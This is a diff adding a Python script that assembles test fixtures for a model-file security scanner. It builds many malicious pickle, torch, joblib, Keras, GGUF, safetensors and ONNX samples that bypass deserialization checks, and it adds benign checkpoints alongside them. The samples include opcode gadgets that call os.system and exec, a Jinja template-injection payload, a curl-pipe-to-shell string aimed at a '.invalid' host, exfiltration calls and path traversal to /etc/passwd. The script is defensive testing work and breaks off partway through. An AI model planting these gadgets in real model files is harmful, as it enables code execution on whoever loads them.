@@ -1,0 +1,553 @@
+#!/usr/bin/python3
+"""Builds tests/fixtures/serialized: one inert sample per bypass of model-formats.md §3 and real
+benign checkpoints, plus MANIFEST (path, expected rule ids or "clean").
+
+Run with Debian's /usr/bin/python3 (python3-torch, python3-numpy, python3-joblib for the benign
+checkpoints and the torch/joblib layouts). Malicious samples are assembled opcode by opcode and are
+never loaded; payloads only name `echo canary > /tmp/modelgate-canary` or hosts under `.invalid`.
+Nothing here unpickles anything.
+"""
+import io
+import json
+import os
+import pickle
+import struct
+import sys
+import tarfile
+import types
+import zipfile
+
+OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "serialized")
+CMD = "echo canary > /tmp/modelgate-canary"
+CODE = "__import__('os').system('echo canary > /tmp/modelgate-canary')"
+MANIFEST = []
+
+
+# ---------------------------------------------------------------- opcode assembly
+def sbu(s):
+    b = s.encode()
+    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)
+
+
+def sg(module, name):
+    """SHORT_BINUNICODE module, SHORT_BINUNICODE name, STACK_GLOBAL."""
+    return sbu(module) + sbu(name) + b"\x93"
+
+
+def body(value):
+    """Opcodes that push `value` (plain data only), without PROTO/STOP."""
+    return pickle.dumps(value, protocol=3)[2:-1]
+
+
+def call(module, name, *args):
+    return sg(module, name) + body(tuple(args)) + b"R"
+
+
+def p4(ops):
+    return b"\x80\x04" + ops + b"."
+
+
+def write(rel, data, expect):
+    path = os.path.join(OUT, rel)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(data)
+    MANIFEST.append((rel, expect))
+
+
+def gadget(rel, module, name, *args, expect="SZ201"):
+    write(rel, p4(call(module, name, *args)), expect)
+
+
+def zip_bytes(members, compression=zipfile.ZIP_STORED):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression) as z:
+        for n, d in members:
+            z.writestr(n, d)
+    return buf.getvalue()
+
+
+EVIL = p4(call("posix", "system", CMD))
+
+
+# ---------------------------------------------------------------- 3.A denylist gaps
+def section_a():
+    gadget("a/A01-pip-main.pkl", "pip", "main", ["install", "canary-pkg.invalid", "--no-input", "-q"])
+    gadget("a/A02-ssl-get-server-certificate.pkl", "ssl", "get_server_certificate", ("data.canary.invalid", 443))
+    gadget("a/A03-inductor-compile-file.pkl", "torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD])
+    gadget("a/A03-pydoc-pipepager.pkl", "pydoc", "pipepager", "", CMD)
+    write("a/A03-functools-partial-torch-load.pkl",
+          p4(sg("functools", "partial") + sg("torch", "load") + sbu("x.pt") + b"\x86R"), "SZ201")
+    gadget("a/A03-venv-create.pkl", "venv", "create", "venv", False, False, True, False, "$(" + CMD + ")")
+    gadget("a/A04-timeit.pkl", "timeit", "timeit", "", CODE)
+    gadget("a/A04-numpy-runstring.pkl", "numpy.testing._private.utils", "runstring", CODE, {})
+    gadget("a/A05-config-module-load-config.pkl", "torch.utils._config_module", "ConfigModule.load_config", {}, EVIL)
+    for n, (m, f, args) in enumerate([
+        ("torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {})),
+        ("torch.utils.bottleneck.__main__", "run_autograd_prof", (CODE, {})),
+        ("torch._dynamo.guards", "GuardBuilder.get", ({}, CODE)),
+        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, CODE, [])),
+        ("torch.utils.collect_env", "run", (CMD,)),
+        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", EVIL)),
+        ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {})),
+    ]):
+        gadget(f"a/A06-torch-gadget-{n}.pkl", m, f, *args)
+    for n, (m, f, args) in enumerate([
+        ("trace", "Trace.runctx", ({}, CODE, {}, {})),
+        ("profile", "Profile.runctx", ({}, CODE, {}, {})),
+        ("code", "InteractiveInterpreter.runcode", ({}, CODE)),
+        ("idlelib.run", "Executive.runcode", ({}, CODE)),
+        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, CODE)),
+        ("idlelib.calltip", "get_entity", (CODE,)),
+        ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, EVIL)),
+        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + CODE)),
+        ("doctest", "debug_script", (CODE, True)),
+        ("ensurepip", "_run_pip", ("[(" + CODE + ",)]",)),
+        ("cProfile", "run", (CODE,)),
+    ]):
+        gadget(f"a/A07-stdlib-runner-{n}.pkl", m, f, *args)
+    gadget("a/A08-asyncio-unix-events.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start", {}, CMD, True, None, None, None, 0)
+    gadget("a/A09-distutils-write-file.pkl", "distutils.file_util", "write_file", "/tmp/modelgate-canary", ["canary"])
+    # A10: ctypes.CDLL(None) -> itemgetter('system') -> methodcaller('__call__', cmd)
+    write("a/A10-ctypes-chain.pkl", p4(
+        sg("operator", "methodcaller") + body(("__call__", CMD.encode())) + b"R" +
+        sg("operator", "itemgetter") + body(("system",)) + b"R" +
+        sg("ctypes", "CDLL") + body((None,)) + b"R" + b"\x85R" + b"\x85R"), "SZ201,SZ204")
+    # A11: pydoc.locate('os') then methodcaller('system', cmd)
+    write("a/A11-pydoc-locate.pkl", p4(
+        sg("operator", "methodcaller") + body(("system", CMD)) + b"R" + call("pydoc", "locate", "os") + b"\x85R"),
+          "SZ201,SZ204")
+    write("a/A12-pty-spawn-obj.pkl", b"\x80\x04(cpty\nspawn\n]\x8c\x07/bin/shao.", "SZ201")
+    gadget("a/A13-f2py-getlincoef.pkl", "numpy.f2py.crackfortran", "getlincoef", CODE, [])
+    gadget("a/A13-f2py-eval-length.pkl", "numpy.f2py.crackfortran", "_eval_length", CODE, None)
+    write("a/A15-operator-attrgetter-proto0.pkl",
+          b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nattrgetter\n(Vsystem\ntR(g0\ntR(V" + CMD.encode() + b"\ntR.",
+          "SZ201,SZ204")
+    write("a/A16-fileio-urlopen.pkl", p4(
+        sg("urllib.request", "urlopen") + sbu("https://exfil.invalid/") + sg("_io", "FileIO") + body(("/etc/hosts", "r")) +
+        b"R" + b"\x86R"), "SZ201")
+    write("a/A17-types-codetype.pkl", p4(sg("types", "CodeType") + body((0, 0, 0, 0, 0, 0, b"d\x00S\x00", (), (), (), "x", "x", 1, b""))
+                                       + b"R"), "SZ201")
+    gadget("a/A17-cloudpickle-make-function.pkl", "cloudpickle.cloudpickle", "_make_function", None, {}, None, None, None)
+    gadget("a/A18-logging-filehandler.pkl", "logging", "FileHandler", "/tmp/modelgate-canary.log")
+    gadget("a/A19-profile-run.pkl", "profile", "run", CODE)
+    # A20 as published: pkgutil.resolve_name('os:system')('id')
+    write("a/A20-pkgutil-resolve-name.pkl",
+          b"\x80\x04" + sg("pkgutil", "resolve_name") + sbu("os:system") + b"\x85R" + sbu(CMD) + b"\x85R.", "SZ201,SZ204")
+    for n, (m, f, args) in enumerate([
+        ("uuid", "_get_command_stdout", (CMD,)),
+        ("_osx_support", "_read_output", (CMD,)),
+        ("_osx_support", "_find_build_tool", ("x; " + CMD + " #",)),
+        ("_aix_support", "_read_cmd_output", (CMD,)),
+        ("imaplib", "IMAP4_stream", (CMD,)),
+        ("_pyrepl.pager", "pipe_pager", ("text", CMD)),
+        ("test.support.script_helper", "assert_python_ok", ("-c", CODE)),
+    ]):
+        gadget(f"a/A21-hidden-runner-{n}.pkl", m, f, *args)
+    for n, (m, f, args) in enumerate([
+        ("importlib", "import_module", ("os",)),
+        ("marshal", "loads", (b"\xe3" + b"\x00" * 16,)),
+        ("mailcap", "findmatch", ({}, "x", "view", CMD)),
+        ("builtins", "__import__", ("os",)),
+        ("importlib.util", "find_spec", ("os",)),
+    ]):
+        gadget(f"a/A22-open-in-picklescan-{n}.pkl", m, f, *args)
+    write("a/A23-marshal-functiontype.pkl", p4(
+        sg("types", "FunctionType") + call("marshal", "loads", b"\xe3" + b"\x00" * 16) + b"}" + b"\x86R" + b")R"),
+          "SZ201")
+    for n, (m, f, args) in enumerate([
+        ("runpy", "run_path", ("/tmp/x.py",)),
+        ("code", "interact", ()),
+        ("multiprocessing", "Process", ()),
+        ("ctypes", "pythonapi", ()),
+    ]):
+        gadget(f"a/A24-fickling-gap-{n}.pkl", m, f, *args)
+    for n, (m, f, args) in enumerate([
+        ("_posixsubprocess", "fork_exec", ([b"/bin/sh"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, None, None, None, -1, None)),
+        ("site", "execsitecustomize", ()),
+        ("atexit", "_run_exitfuncs", ()),
+        ("_interpreters", "run_string", (0, CODE)),
+        ("_xxsubinterpreters", "run_string", (0, CODE)),
+    ]):
+        gadget(f"a/A25-private-stdlib-{n}.pkl", m, f, *args)
+    for n, (m, f, args, expect) in enumerate([
+        ("multiprocessing.util", "spawnv_passfds", (b"/bin/sh", ("/bin/sh", "-c", CMD), ()), "SZ201"),
+        ("mlflow.projects.backend.local", "_run_entry_point", (CMD, ".", "", ""), "SZ201"),
+        ("pandas.io.parsers.readers", "read_csv", ("https://exfil.invalid/?x",), "SZ201"),
+    ]):
+        gadget(f"a/A27-hf-malware-{n}.pkl", m, f, *args, expect=expect)
+    for n, (m, f, args) in enumerate([
+        ("getpass", "getuser", ()), ("resource", "setrlimit", (0, (0, 0))), ("syslog", "syslog", ("x",)),
+        ("trace", "Trace", ()), ("nntplib", "NNTP", ("news.invalid",)), ("lzma", "open", ("/etc/hosts",)),
+        ("bz2", "open", ("/etc/hosts",)), ("gzip", "open", ("/etc/hosts",)), ("py_compile", "compile", ("/tmp/x.py",)),
+        ("weakref", "finalize", (None, None)), ("atexit", "register", (None,)), ("mmap", "mmap", (-1, 16)),
+        ("dbm", "open", ("/tmp/x",)), ("xml.dom.minidom", "parse", ("/etc/hosts",)),
+        ("xml.etree.ElementTree", "parse", ("/etc/hosts",)), ("http.server", "HTTPServer", (("", 0), None)),
+        ("socketserver", "TCPServer", (("", 0), None)), ("glob", "glob", ("/*",)),
+    ]):
+        gadget(f"a/A28-single-gadget-{n}.pkl", m, f, *args)
+    gadget("a/A29-pickle-loads.pkl", "pickle", "loads", EVIL)
+    gadget("a/A29-_pickle-loads.pkl", "_pickle", "loads", EVIL)
+
+
+# ---------------------------------------------------------------- 3.B parser differentials
+def section_b():
+    write("b/B01-stack-global-string-no-proto.pkl", b"S'os'\nS'system'\n\x93S'" + CMD.encode() + b"'\n\x85R.", "SZ201")
+    write("b/B02-memo-confusion.pkl", b"\x80\x04" +
+          b"T\x02\x00\x00\x00osq\x00" + b"T\x06\x00\x00\x00systemq\x01" +
+          b"T\x0c\x00\x00\x00torch._utils\x94" + b"T\x12\x00\x00\x00_rebuild_tensor_v2\x94" +
+          b"h\x00h\x01\x93" + sbu(CMD) + b"\x85R.", "SZ201")
+    write("b/B03-memo-by-count.pkl",
+          b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + CMD.encode() + b"\ntR.", "SZ201")
+    # B4: BUILD plants strings on numpy.prod, GLOBAL reads them back, STACK_GLOBAL resolves them.
+    write("b/B04-build-on-global.pkl", b"\x80\x04" +
+          b"cnumpy\nprod\n}" + sbu("a") + sbu("os") + b"s" + sbu("b") + sbu("system") + b"sb0" +
+          b"cnumpy\nprod.a\nq\x00cnumpy\nprod.b\nq\x0100h\x00h\x01\x93" + sbu(CMD) + b"\x85R.",
+          "SZ204,SZ203,SZ202")
+    # B5: names computed at load time (str.join), then STACK_GLOBAL.
+    join = sg("builtins", "str.join")
+    write("b/B05-runtime-names.pkl", b"\x80\x04" +
+          join + body(("", ["o", "s"])) + b"Rq\xf0" + b"0" +
+          join + body(("", ["sys", "tem"])) + b"Rq\xf1" + b"0" +
+          b"h\xf0h\xf1\x93" + sbu(CMD) + b"\x85R.", "SZ203,SZ202")
+    write("b/B06-missing-memo.pkl", b"\x80\x04cos\nsystem\nV" + CMD.encode() + b"\n\x85R0" + sbu("os") +
+          b"\x94h\x03h\x00\x93K\x01.", "SZ201,SZ206")
+    write("b/B06-int-memo.pkl", b"\x80\x04cos\nsystem\nV" + CMD.encode() + b"\n\x85R0J*\x00\x00\x00\x94h\x00" +
+          sbu("system") + b"\x93K\x01.", "SZ201,SZ203")
+    write("b/B08-broken-tail.pkl", b"cbuiltins\nexec\n(V" + CODE.encode() + b"\ntR\xff\xff\xff", "SZ201")
+    write("b/B08-truncated.pkl", b"cbuiltins\nexec\n(X\x00\x01\x00\x00" + CODE.encode(), "SZ201")
+    # B9: frame straddle, as in the advisory.
+    hidden = (b"cos\nsystem\n(V" + CMD.encode() + b"\ntR" + b"(").ljust(261, b"N")
+    frame_straddle = (b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n0" + b"(" +
+                      b"\x95" + struct.pack("<Q", 2) + b"B" + struct.pack("<I", 0x107) + b"\x00\x00" + hidden + b"1.")
+    write("b/B09-frame-straddle.pkl", frame_straddle, "SZ206,SZ201")
+    write("b/B10-obj-discarded.pkl", b"\x80\x04(" + sg("smtplib", "SMTP") + sbu("127.0.0.1") + b"o0N.", "SZ201")
+    write("b/B13-stacked.pkl", pickle.dumps(["a"], 4) + EVIL, "SZ201")
+    write("b/B14-dis-stricter.pkl", b"(K\x01." + EVIL, "SZ201")
+    write("b/B15-dotted-name.pkl", p4(call("pathlib", "os.system", CMD)), "SZ201")
+    write("b/B16-builtins-via-numpy.pkl", p4(sg("builtins", "dict.get") + sg("numpy", "__builtins__") + sbu("exec") +
+                                           b"\x86R" + sbu(CODE) + b"\x85R"), "SZ201,SZ204")
+    write("b/B17-builtins-chain.pkl", b"\x80\x04cbuiltins\ngetattr\n" + sg("builtins", "__import__") + sbu("os") + b"\x85R" +
+          sbu("system") + b"\x86R" + sbu(CMD) + b"\x85R.", "SZ201,SZ204")
+    write("b/B18-unused-variable-defeat.pkl", b"\x80\x04cpydoc\nlocate\nS'ctypes.windll.kernel32.WinExec'\n\x85Rp0\n0g0\n" +
+          b"C\x08calc.exeK\x01\x86Rp1\n0cbuiltins\nException\n)Rp2\n}S'rce_status'\ng1\nsb.", "SZ201,SZ204")
+    write("b/B19-ast-parse.pkl", b"\x80\x04" + sg("ast", "parse") + b".", "SZ202")
+    write("b/B20-ext-opcode.pkl", b"\x80\x02\x82\xf0X" + struct.pack("<I", len(CMD)) + CMD.encode() + b"\x85R.", "SZ205,SZ204")
+    write("b/B21-map-callback.pkl", p4(sg("builtins", "map") + sg("posix", "system") + body([CMD]) + b"\x86R"),
+          "SZ201,SZ202")
+
+
+# ---------------------------------------------------------------- 3.C containers
+def set_flags(data, name, flag):
+    d = bytearray(data)
+    nb = name.encode()
+    i = d.find(b"PK\x03\x04")
+    while i != -1:
+        n = struct.unpack_from("<H", d, i + 26)[0]
+        if bytes(d[i + 30:i + 30 + n]) == nb:
+            struct.pack_into("<H", d, i + 6, flag)
+        i = d.find(b"PK\x03\x04", i + 4)
+    i = d.find(b"PK\x01\x02")
+    while i != -1:
+        n = struct.unpack_from("<H", d, i + 28)[0]
+        if bytes(d[i + 46:i + 46 + n]) == nb:
+            struct.pack_into("<H", d, i + 8, flag)
+        i = d.find(b"PK\x01\x02", i + 4)
+    return bytes(d)
+
+
+def section_c():
+    write("c/C01-data-txt.pt", zip_bytes([("archive/data.txt", EVIL), ("archive/version", b"3\n")]), "SZ201")
+    write("c/C01b-protoless-member.pt", zip_bytes([("archive/data.pkl", pickle.dumps({}, 2)),
+                                                  ("archive/weights.bin", b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.")]), "SZ201")
+    z = zip_bytes([("archive/data.pkl", EVIL)])
+    write("c/C02-local-name-mismatch.pt", z.replace(b"data.pkl", b"datap.kl", 1), "SZ301,SZ201")
+    for flag in (0x1, 0x20, 0x40):
+        write(f"c/C03-flag-bits-{flag:#x}.pt", set_flags(zip_bytes([("model/config.pkl", EVIL)]), "model/config.pkl", flag),
+              "SZ301,SZ201")
+    payload = p4(call("builtins", "exec", "print('456')"))
+    write("c/C04-bad-crc.pt", zip_bytes([("archive/data.pkl", payload)]).replace(b"print('456')", b"print('123')"),
+          "SZ302,SZ201")
+    write("c/C06-plain-pickle.bin", EVIL, "SZ201")
+    # C7: legacy layout whose magic number is computed by eval.
+    legacy = (p4(call("builtins", "eval", "0x1950A86A20F9469CFC6C")) + pickle.dumps(1001, 2) + pickle.dumps({}, 2) +
+              EVIL + pickle.dumps([], 2))
+    write("c/C07-eval-magic.pt", legacy, "SZ201")
+    write("c/C08-legacy-later-pickle.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) +
+          pickle.dumps({"protocol_version": 1001}, 2) + EVIL + pickle.dumps([], 2) + b"\x00" * 64, "SZ201")
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        for n, d in [("sys_info", pickle.dumps({"protocol_version": 1000}, 2)), ("pickle", EVIL),
+                     ("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2))]:
+            info = tarfile.TarInfo(n)
+            info.size = len(d)
+            t.addfile(info, io.BytesIO(d))
+    write("c/C09-legacy-tar.pt", buf.getvalue(), "SZ201")
+    write("c/C10-model.sav", EVIL, "SZ201")
+    inner = zip_bytes([("data.pkl", EVIL)])
+    write("c/C12-nested-zip.pt", zip_bytes([("archive/data.pkl", pickle.dumps({}, 2)), ("archive/inner.zip", inner)]), "SZ201")
+    fake = b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storageq\x03" \
+           b"ctorch\nFakeStorage\nq\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x01tq\x07QK\x00K\x01\x85K\x01\x85\x89" \
+           b"ccollections\nOrderedDict\n)Rtq\x08Rq\x09s."
+    write("c/C13-fake-storage.pt", zip_bytes([("archive/data.pkl", fake), ("archive/data/0", p4(call("posix", "system", CMD)))]),
+          "SZ202,SZ201")
+    write("c/C14-png.pt", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "clean")
+
+
+# ---------------------------------------------------------------- numpy / joblib (real libraries)
+class Evil:
+    def __reduce__(self):
+        return (os.system, (CMD,))
+
+
+class DnsExfil:
+    def __reduce__(self):
+        import ssl
+        return (ssl.get_server_certificate, (("data.canary.invalid", 443),))
+
+
+def section_numpy_joblib():
+    import numpy as np
+    import joblib
+
+    def npy_bytes(arr, allow_pickle=False):
+        b = io.BytesIO()
+        np.save(b, arr, allow_pickle=allow_pickle)
+        return b.getvalue()
+
+    write("c/C10-object-array.npy", npy_bytes(np.array([Evil()], dtype=object), True), "SZ306,SZ201")
+    b = io.BytesIO()
+    np.savez(b, weights=np.zeros(4), a=np.array([Evil()], dtype=object))
+    write("c/C11-object-array.npz", b.getvalue(), "SZ306,SZ201")
+    write("a/A02-npy-dns-exfil.npy", npy_bytes(np.array([DnsExfil()], dtype=object), True), "SZ306,SZ201")
+    # B11 / B12 with joblib itself.
+    b = io.BytesIO()
+    joblib.dump({"a_weights": np.zeros(1000), "z_payload": Evil()}, b)
+    write("b/B11-joblib-array-tail.joblib", b.getvalue(), "SZ201")
+    b = io.BytesIO()
+    joblib.dump({"w": np.arange(10, dtype=np.float32), "obj": np.array([Evil()], dtype=object)}, b)
+    write("b/B12-joblib-object-array.joblib", b.getvalue(), "SZ201")
+    for comp in ("zlib", "gzip", "bz2", "xz", "lzma"):
+        b = io.BytesIO()
+        joblib.dump({"a": np.zeros(100), "z": Evil()}, b, compress=(comp, 3))
+        write(f"b/B11-joblib-{comp}.joblib", b.getvalue(), "SZ201")
+
+    # Benign: numpy, npz, joblib of arrays and of a fitted sklearn-like estimator.
+    write("benign/weights.npy", npy_bytes(np.arange(12, dtype=np.float64).reshape(3, 4)), "clean")
+    b = io.BytesIO()
+    np.savez(b, w=np.ones((2, 2), dtype=np.float32), b=np.zeros(3, dtype=np.int64))
+    write("benign/weights.npz", b.getvalue(), "clean")
+    b = io.BytesIO()
+    np.savez_compressed(b, w=np.ones((2, 2), dtype=np.float32))
+    write("benign/weights-compressed.npz", b.getvalue(), "clean")
+    mod = types.ModuleType("sklearn.linear_model._logistic")
+
+    class LogisticRegression:
+        def __init__(self):
+            self.coef_ = np.array([[0.5, -0.25]])
+            self.intercept_ = np.array([0.1])
+            self.classes_ = np.array([0, 1])
+            self.C = 1.0
+            self.penalty = "l2"
+    LogisticRegression.__module__ = mod.__name__
+    LogisticRegression.__qualname__ = "LogisticRegression"
+    mod.LogisticRegression = LogisticRegression
+    for name in ("sklearn", "sklearn.linear_model", "sklearn.linear_model._logistic"):
+        sys.modules.setdefault(name, types.ModuleType(name))
+    sys.modules["sklearn.linear_model._logistic"] = mod
+    for comp in (0, 3):
+        b = io.BytesIO()
+        joblib.dump({"model": LogisticRegression(), "scaler_mean": np.zeros(2), "labels": ["a", "b"]}, b, compress=comp)
+        write(f"benign/estimator-{comp}.joblib", b.getvalue(), "clean")
+    write("benign/estimator.pkl", pickle.dumps(LogisticRegression(), 4), "clean")
+    write("benign/estimator-proto2.pkl", pickle.dumps(LogisticRegression(), 2), "clean")
+
+
+# ---------------------------------------------------------------- torch (real checkpoints)
+def section_torch():
+    import torch
+
+    class Net(torch.nn.Module):
+        def __init__(self):
+            super().__init__()
+            self.fc = torch.nn.Linear(4, 2)
+            self.bn = torch.nn.BatchNorm1d(2)
+
+        def forward(self, x):
+            return self.bn(self.fc(x))
+
+    torch.manual_seed(0)
+    net = Net()
+    for name, kw in [("state-dict.pt", {}), ("state-dict-legacy.pt", {"_use_new_zipfile_serialization": False})]:
+        b = io.BytesIO()
+        torch.save(net.state_dict(), b, **kw)
+        write("benign/" + name, b.getvalue(), "clean")
+    b = io.BytesIO()
+    torch.save({"epoch": 3, "model": net.state_dict(), "lr": 0.1, "step": torch.tensor(7)}, b)
+    write("benign/training-checkpoint.pt", b.getvalue(), "clean")
+    b = io.BytesIO()
+    torch.save({"w": torch.zeros(4, dtype=torch.float16), "i": torch.arange(3)}, b, pickle_protocol=4)
+    write("benign/tensors-proto4.pt", b.getvalue(), "clean")
+    b = io.BytesIO()
+    torch.save(Evil(), b, _use_new_zipfile_serialization=False)
+    write("c/C08-torch-legacy-evil.pt", b.getvalue(), "SZ201")
+    b = io.BytesIO()
+    torch.save({"model": net.state_dict(), "hook": Evil()}, b)
+    write("c/C08-torch-zip-evil.pt", b.getvalue(), "SZ201")
+    scripted = torch.jit.script(net.eval())
+    b = io.BytesIO()
+    torch.jit.save(scripted, b)
+    write("f/F01-torchscript.pt", b.getvalue(), "SZ303")
+
+
+# ---------------------------------------------------------------- Keras .keras
+def keras_zip(layers, model_class="Sequential"):
+    cfg = {"module": "keras", "class_name": model_class, "config": {"name": "m", "layers": layers},
+           "registered_name": None}
+    meta = {"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}
+    return zip_bytes([("metadata.json", json.dumps(meta)), ("config.json", json.dumps(cfg))])
+
+
+def dense(name):
+    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 2, "activation":
+            {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"}},
+            "registered_name": None}
+
+
+LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {
+    "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAKQFO"}}}, "registered_name": None}
+
+
+def section_keras():
+    write("f/F04-lambda.keras", keras_zip([dense("d"), LAMBDA]), "SZ401")
+    write("f/F05-foreign-function.keras", keras_zip([dense("d"), {"module": "builtins", "class_name": "function",
+                                                                   "config": "exec", "registered_name": None}]), "SZ402")
+    write("f/F05-subprocess-run.keras", keras_zip([{"module": "subprocess", "class_name": "run", "config": {},
+                                                     "registered_name": None}]), "SZ402")
+    write("f/F07-enable-unsafe.keras", keras_zip([{"module": "keras.layers", "class_name": "Lambda", "config": {"function": {
+        "module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}}}]), "SZ401,SZ402")
+    write("f/F09-torch-module-wrapper.keras", keras_zip([{"module": "keras.layers", "class_name": "TorchModuleWrapper",
+                                                           "config": {"module": "gAR..."}}]), "SZ402")
+    write("f/F10-stringlookup-path.keras", keras_zip([{"module": "keras.layers", "class_name": "StringLookup",
+                                                        "config": {"vocabulary": "/etc/passwd"}}]), "SZ403")
+    write("f/F11-tfsmlayer.keras", keras_zip([{"module": "keras.layers", "class_name": "TFSMLayer",
+                                                "config": {"filepath": "/tmp/attacker_savedmodel"}}]), "SZ403")
+    nested = {"module": "keras", "class_name": "Sequential", "config": {"name": "inner", "layers": [dense("x"), LAMBDA]}}
+    write("f/F14a-nested-lambda.keras", keras_zip([dense("d"), nested]), "SZ401")
+    write("f/F14b-public-function.keras", keras_zip([{"module": "keras.layers", "class_name": "Lambda", "config": {"function": {
+        "module": "keras.visualization", "class_name": "function", "config": "plot_image_gallery"}}}]), "SZ401,SZ402")
+    write("benign/dense.keras", keras_zip([dense("a"), dense("b")]), "incomplete-weights" if False else "clean")
+
+
+# ---------------------------------------------------------------- GGUF, templates, safetensors, ONNX
+SSTI = ("{% for c in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in c.__name__ %}"
+        "{{ c()._module.__builtins__['__import__']('os').popen('" + CMD + "').read() }}{% endif %}{% endfor %}")
+OBFUSCATED = "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"
+BENIGN_TEMPLATE = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
+                   "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
+
+
+def gguf(kvs, tensors=()):
+    def s(x):
+        b = x.encode()
+        return struct.pack("<Q", len(b)) + b
+    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<QQ", len(tensors), len(kvs))
+    for k, v in kvs:
+        if isinstance(v, str):
+            out += s(k) + struct.pack("<I", 8) + s(v)
+        elif isinstance(v, list):
+            out += s(k) + struct.pack("<I", 9) + struct.pack("<IQ", 8, len(v)) + b"".join(s(x) for x in v)
+        else:
+            out += s(k) + struct.pack("<I", 4) + struct.pack("<I", v)
+    for name, dims, off in tensors:
+        out += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", 0, off)
+    out += b"\x00" * ((32 - len(out) % 32) % 32)
+    return out + b"\x00" * 64
+
+
+def safetensors(header, data):
+    h = json.dumps(header).encode() if isinstance(header, dict) else header
+    return struct.pack("<Q", len(h)) + h + data
+
+
+def pb_varint(n):
+    out = b""
+    while True:
+        b = n & 0x7F
+        n >>= 7
+        out += bytes([b | (0x80 if n else 0)])
+        if not n:
+            return out
+
+
+def pb_field(num, payload):
+    if isinstance(payload, int):
+        return pb_varint(num << 3) + pb_varint(payload)
+    return pb_varint((num << 3) | 2) + pb_varint(len(payload)) + payload
+
+
+def onnx_model(location=None, domain=""):
+    tensor = pb_field(8, b"w") + pb_field(2, 1)  # name, data_type FLOAT
+    if location:
+        tensor += pb_field(13, pb_field(1, b"location") + pb_field(2, location.encode())) + pb_field(14, 1)
+    node = pb_field(1, b"x") + pb_field(2, b"y") + pb_field(4, b"Relu") + (pb_field(7, domain.encode()) if domain else b"")
+    graph = pb_field(1, node) + pb_field(2, b"g") + pb_field(5, tensor)
+    opset = pb_field(1, domain.encode()) + pb_field(2, 1) if domain else pb_field(2, 17)
+    return pb_field(1, 8) + pb_field(8, opset) + pb_field(7, graph)
+
+
+def section_other():
+    write("f/F16-gguf-chat-template.gguf", gguf([("general.architecture", "qwen2"), ("tokenizer.chat_template", SSTI)]), "SZ503")
+    write("f/F16-gguf-obfuscated.gguf", gguf([("general.architecture", "qwen2"), ("tokenizer.chat_template.tool_use", OBFUSCATED)]),
+          "SZ504")
+    write("f/F17-gguf-lying-dims.gguf", gguf([("general.architecture", "llama")], [("t", [1 << 32, 1 << 32, 1 << 20], 0)]), "SZ505")
+    write("f/F16-tokenizer-config/tokenizer_config.json", json.dumps({"chat_template": SSTI}).encode(), "SZ503")
+    write("f/F16-chat-template-jinja/chat_template.jinja", OBFUSCATED.encode(), "SZ504")
+    write("f/F18-safetensors-overflow.safetensors", safetensors({"t": {"dtype": "F32", "shape": [4194305, 4194305, 211106198978564],
+                                                                      "data_offsets": [0, 16]}}, b"\x00" * 16), "SZ501")
+    dup = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
+    write("f/F18-safetensors-duplicate.safetensors", safetensors(dup, b"\x00" * 4), "SZ501")
+    write("f/F18-safetensors-overlap.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
+                                                                  "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
+                                                                 b"\x00" * 12), "SZ501")
+    write("f/F18-safetensors-metadata.safetensors", safetensors({"__metadata__": {"note": "$(curl http://x.invalid/s | sh)"},
+                                                                   "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
+                                                                  b"\x00" * 4), "SZ502")
+    write("f/ONNX-external-traversal.onnx", onnx_model(location="../../../../etc/passwd"), "SZ506")
+    write("f/ONNX-custom-domain.onnx", onnx_model(domain="com.example.evilops"), "SZ507")
+    # Benign counterparts.
